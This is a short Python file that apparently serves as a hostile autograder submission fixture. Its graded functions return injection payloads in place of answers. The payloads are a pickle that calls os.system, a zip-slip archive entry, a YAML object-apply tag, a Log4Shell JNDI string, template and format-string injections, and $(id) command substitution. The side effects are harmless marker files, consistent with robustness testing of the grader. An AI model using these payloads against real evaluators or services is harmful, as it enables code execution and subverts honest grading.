"""Answers with strings, keys and bytes that are code to whoever evaluates, formats, unzips or loads them."""

import base64
import io
import zipfile

CODE = "__import__('os').system('echo autograder-attack > /tmp/eval-autograder-attack.txt')"
FORMATS = ("{0.__class__.__init__.__globals__}", "%(secret)s", "${jndi:ldap://127.0.0.1:47811/a}", "{{7*7}}", "$(id)")


def _archive():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../../tmp/slip-autograder-attack.txt", "autograder-attack")
        archive.writestr("archive/data.pkl", b"cos\nsystem\n(S'" + CODE.encode() + b"'\ntR.")
    return buffer.getvalue()


def total(x):
    return CODE


def smooth(x, k):
    return {CODE: FORMATS, "!!python/object/apply:os.system": [CODE]}


def average(x):
    raise ValueError(" ".join((*FORMATS, base64.b64encode(_archive()).decode()[:200], CODE)))


def parity(n):
    return CODE if n % 2 else n % 2 == 0
